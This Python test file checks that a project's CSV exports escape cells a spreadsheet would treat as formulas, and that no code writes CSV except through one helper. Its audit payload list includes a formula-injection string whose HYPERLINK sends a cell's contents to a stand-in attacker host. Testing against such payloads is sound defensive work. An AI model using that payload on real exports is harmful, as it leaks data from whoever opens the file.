"""Every CSV export writes cells a spreadsheet shows as text, never runs as a formula."""

import ast
import io
from pathlib import Path

import pytest

from mentoring.spreadsheets import csv_writer, spreadsheet_cell

ROOT = Path(__file__).resolve().parents[2]

# The audit's payloads, and each character a spreadsheet starts a formula with.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Click me")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_could_start_a_formula_is_prefixed_with_a_quote(payload):
    assert spreadsheet_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Ada Archer", "Storytime; EDI", "", "1+1", "a=b", 5, -3, None])
def test_other_cells_are_left_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_the_writer_escapes_every_cell_of_every_row():
    stream = io.StringIO()
    writer = csv_writer(stream)
    writer.writerow(["=1+1", "plain", -4])
    writer.writerows([["@x"], ["+y"]])

    assert stream.getvalue().splitlines() == ["'=1+1,plain,-4", "'@x", "'+y"]


def _python_files():
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {".venv", "node_modules", "tests", "bench"} or "migrations" in parts:
            continue
        yield path


def test_no_export_writes_csv_but_through_the_one_helper():
    """``csv.writer`` (or ``DictWriter``) anywhere but mentoring/spreadsheets.py would be an
    export that forgets to escape formulas."""
    offenders = []
    for path in _python_files():
        if path == ROOT / "mentoring" / "spreadsheets.py":
            continue
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            writes_csv = (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            if writes_csv:
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, f"Write CSV with mentoring.spreadsheets.csv_writer: {offenders}"
